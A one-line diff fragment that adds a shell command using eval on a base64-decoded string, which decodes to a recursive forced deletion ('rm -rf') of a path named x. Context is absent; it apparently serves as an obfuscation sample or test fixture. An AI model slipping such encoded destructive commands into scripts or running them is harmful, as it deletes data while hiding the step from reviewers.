@@ -1,0 +1,1 @@
+eval "$(echo cm0gLXJmIHg= | base64 -d)"
